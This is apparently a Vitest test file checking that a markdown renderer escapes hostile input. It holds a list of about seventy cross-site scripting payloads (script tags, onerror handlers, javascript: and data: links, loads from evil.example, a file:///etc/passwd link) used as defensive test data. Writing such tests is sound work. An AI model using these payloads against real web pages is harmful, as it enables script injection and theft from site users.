import { describe, expect, it } from 'vitest';
import { markdownAttributes, markdownTags, renderMarkdown } from './markdown.ts';

const render = (text: string): string =>
  renderMarkdown(text, { linkFor: (href) => (/^[\w-]+\.md$/.test(href) ? `#/notebook/case/${href}` : null) });

/** Tags of HTML, read strictly: every `<` must begin one of ours, written exactly as we write them. */
function tagsOf(html: string): readonly { name: string; attributes: Record<string, string> }[] {
  const tags = [];
  for (const [index, part] of html.split('<').entries()) {
    if (index === 0) {
      expect(part).not.toContain('>');
      continue;
    }
    const [whole, name = '', written = ''] = /^\/?([a-z0-9]+)((?: [a-z]+="[^"<>]*")*)>/.exec(part) ?? [];
    expect(whole, `<${part.slice(0, 80)}`).toBeDefined();
    expect(part.slice(whole?.length)).not.toContain('>');
    const attributes = [...written.matchAll(/ ([a-z]+)="([^"]*)"/g)].map(([, key = '', value = '']) => [key, value]);
    tags.push({ name, attributes: Object.fromEntries(attributes) as Record<string, string> });
  }
  return tags;
}

function expectHarmless(html: string): void {
  for (const { name, attributes } of tagsOf(html)) {
    expect(markdownTags).toContain(name);
    for (const [key, value] of Object.entries(attributes)) {
      expect(markdownAttributes).toContain(key);
      if (key === 'href') expect(value).toMatch(/^#\/notebook\/case\/[\w-]+\.md$/);
      if (key === 'align') expect(['left', 'center', 'right']).toContain(value);
      if (key === 'start') expect(value).toMatch(/^\d+$/);
    }
  }
  expect(html).not.toMatch(/[\u202a-\u202e\u2066-\u2069\0]/);
}

describe('what people write', () => {
  it.each([
    ['# A *b*\n\nc  \nd', '<h1>A <em>b</em></h1>\n<p>c<br>d</p>\n'],
    ['- [x] a\n- [ ] b', '<ul>\n<li>☑ a\n</li>\n<li>☐ b\n</li>\n</ul>\n'],
    ['3. a\n4. b', '<ol start="3">\n<li>a\n</li>\n<li>b\n</li>\n</ol>\n'],
    ['`a < b` ~~c~~ **d**', '<p><code>a &#60; b</code> <del>c</del> <strong>d</strong></p>\n'],
    ['> a\n> ---', '<blockquote>\n<h2>a</h2>\n</blockquote>\n'],
    ['```sh\n<b>\n```', '<pre><code>&#60;b&#62;\n</code></pre>\n'],
    ['a &lt; b &amp;lt; &mdash; &#65; &nosuch;', '<p>a &#60; b &#38;lt; — A &#38;nosuch;</p>\n'],
    ['[next](persistence.md "t")', '<p><a href="#/notebook/case/persistence.md">next</a></p>\n'],
    ['[AWS](https://aws.amazon.com)', '<p>AWS <code>https://aws.amazon.com</code></p>\n'],
    ['<https://aws.amazon.com>', '<p><code>https://aws.amazon.com</code></p>\n'],
    ['![logo](https://evil.example/x.png)', '<p>logo <code>https://evil.example/x.png</code></p>\n'],
    [
      '| a | b |\n|---|--:|\n| 1 | 2 |',
      '<table>\n<thead>\n<tr><th>a</th><th align="right">b</th></tr>\n</thead>\n<tbody>\n<tr><td>1</td><td align="right">2</td></tr>\n</tbody>\n</table>\n',
    ],
    ['<b>bold</b> <!-- c -->', '<p>&#60;b&#62;bold&#60;/b&#62; &#60;!-- c --&#62;</p>\n'],
  ])('%s', (text, html) => {
    expect(render(text)).toBe(html);
    expectHarmless(html);
  });
});

const payloads = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example/x.js></sCrIpT>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<a href="javascript:alert(1)">x</a>',
  '<style>@import url(//evil.example)</style>',
  '<link rel=stylesheet href=//evil.example>',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<base href=//evil.example>',
  '<form action=//evil.example><button>x</button></form>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?php <img src=x onerror=alert(1)> ?>',
  '<p\n onclick=alert(1)\n>',
  '</p><img src=x onerror=alert(1)>',
  '<img src="x" title="`" onerror=alert(1)>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](java\tscript:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](javascript&colon;alert(1))',
  '[x]( javascript:alert(1) )',
  '[x](<javascript:alert(1)>)',
  '[x](data:text/html,<script>alert(1)</script>)',
  '[x](data:text/html;base64,PHNjcmlwdD4=)',
  '[x](vbscript:msgbox(1))',
  '[x](file:///etc/passwd)',
  '[x](//evil.example/a.md)',
  '[x](\\\\evil.example\\a.md)',
  '[x](a.md" onclick="alert(1))',
  "[x](a.md' onclick='alert(1))",
  '[x](a.md "t" onclick=alert(1))',
  '[<img src=x onerror=alert(1)>](a.md)',
  '[![x](javascript:alert(1))](javascript:alert(1))',
  '[x][r]\n\n[r]: javascript:alert(1)',
  '[r]\n\n[r]: <javascript:alert(1)> "onclick=alert(1)"',
  '<javascript:alert(1)>',
  '<https://evil.example/"onmouseover=alert(1)>',
  '<a@b.c"onclick=alert(1)>',
  '![x](x"onerror="alert(1))',
  '!["onerror="alert(1)](x)',
  '![x](javascript:alert(1) "onerror=alert(1)")',
  '![<img src=x onerror=alert(1)>](x)',
  '`<img src=x onerror=alert(1)>`',
  '```"><img src=x onerror=alert(1)>\ncode\n```',
  '~~~html\n</code></pre><script>alert(1)</script>\n~~~',
  '    </code></pre><script>alert(1)</script>',
  '# <img src=x onerror=alert(1)>',
  '# x {#id onclick=alert(1)}',
  '| <script>alert(1)</script> |\n|:-:|\n| <img src=x onerror=alert(1)> |',
  '|a|\n|:-"onclick=alert(1)|\n|b|',
  '1"onclick=alert(1). x',
  '- <script>alert(1)</script>\n  - <img src=x onerror=alert(1)>',
  '> <script>\n> alert(1)\n> </script>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#x3c;/script&#x3E;',
  '&#0;&#x202e;&#xD800;&#9999999;&rlm;',
  '\\<script>alert(1)\\</script>',
  '*<img src=x onerror=alert(1)>*',
  '**a*<b onmouseover=alert(1)>*c**',
  '\u202etxt.exe\u2066 \0 \u0007 \u001b[31m',
  '<a\u0000b onclick=alert(1)>',
  '<x onclick=alert(1)>\n\n</x>',
  '<div>\n\n[x](javascript:alert(1))\n\n</div>',
  '<pre>\n[x](javascript:alert(1)) <b>\n</pre>',
  '<a href="x">[y](javascript:alert(1)) https://evil.example</a>',
  '-->\n\n--!><script>alert(1)</script>',
  '[a]: b\n[x][a]\n<!--',
  'http://evil.example/<script>alert(1)</script>',
  'www.evil.example/"onclick=alert(1)',
  '^[x](javascript:alert(1)) [^1]\n\n[^1]: <script>',
];

describe('what strangers write', () => {
  it.each(payloads)('%j is text', (text) => {
    for (const around of ['§', 'a §', '# §', '> §', '- §', '[§](a.md)', '**§**', '|§|\n|-|\n|§|', '`§', '§\n§']) {
      const html = render(around.replaceAll('§', () => text));
      expectHarmless(html);
      if (!around.includes('a.md') && !text.includes('a.md')) expect(html).not.toContain('<a ');
    }
  });

  it('pairs of them are text', () => {
    for (const first of payloads) for (const second of payloads) expectHarmless(render(`${first}${second}`));
  });

  it('a link that the page’s own function would let through must stay within the page', () => {
    for (const href of ['javascript:alert(1)', '//evil.example', 'https://evil.example', '/\\evil.example', 'a b']) {
      expect(renderMarkdown('[x](y)', { linkFor: () => href })).not.toContain('<a ');
    }
  });
});

it.each([
  ['nested lists', '- '.repeat(50_000)],
  ['nested quotes', '>'.repeat(100_000)],
  ['one long paragraph', 'a_'.repeat(90_000)],
  ['long paragraphs', `${'~~a~'.repeat(2_400)}\n\n`.repeat(15)],
  ['brackets', '['.repeat(100_000)],
  ['a wide table', `${'|a'.repeat(9_000)}|\n${'|-'.repeat(9_000)}|\n`],
  ['more than is rendered', '# a\n'.repeat(60_000)],
])('%s are shown, in bounded time', (_, text) => {
  const html = render(text);
  expectHarmless(html);
  expect(html.length).toBeGreaterThan(1_000);
});
